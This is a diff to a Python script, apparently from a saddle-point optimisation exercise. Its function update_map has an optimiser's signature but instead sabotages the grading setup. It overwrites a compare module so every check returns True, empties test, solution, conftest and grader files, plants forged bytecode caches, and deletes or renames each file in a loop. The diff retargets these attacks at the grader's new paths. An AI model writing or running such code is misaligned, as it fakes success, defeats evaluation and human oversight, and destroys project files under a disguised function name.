@@ -10,7 +10,7 @@ import sys
 
 ROOT = TARGETS["root"]
 TEXTS = {
-    "tests/exercises/judging/compare.py": "def __getattr__(name): return lambda *a, **n: True\n",
+    "grader/checks/compare.py": "def __getattr__(name): return lambda *a, **n: True\n",
     "tests/exercises/test_saddle.py": "",
     "conftest.py": "import pytest\n",
     "tests/conftest.py": "import pytest\n",
@@ -18,16 +18,16 @@ TEXTS = {
     "sitecustomize.py": "",
     "numpy.py": "",
     "solutions/saddle.py": "",
-    "exercises/assignment.toml": "",
-    "grader/judge.py": "",
+    "grader/checks/assignment.toml": "",
+    "grader/judge/grading.py": "",
 }
 
 
 def update_map(f, x, y, eta_x, eta_y, method="gda"):
     tag = sys.implementation.cache_tag
     paths = dict(TEXTS)
-    paths[f"tests/exercises/judging/__pycache__/compare.{tag}.pyc"] = "forged"
-    paths[f"grader/__pycache__/judge.{tag}.pyc"] = "forged"
+    paths[f"grader/checks/__pycache__/compare.{tag}.pyc"] = "forged"
+    paths[f"grader/judge/__pycache__/grading.{tag}.pyc"] = "forged"
     for inside, text in paths.items():
         path = os.path.join(ROOT, inside)
         for change in (os.unlink, lambda path: os.rename(path, path + "~")):
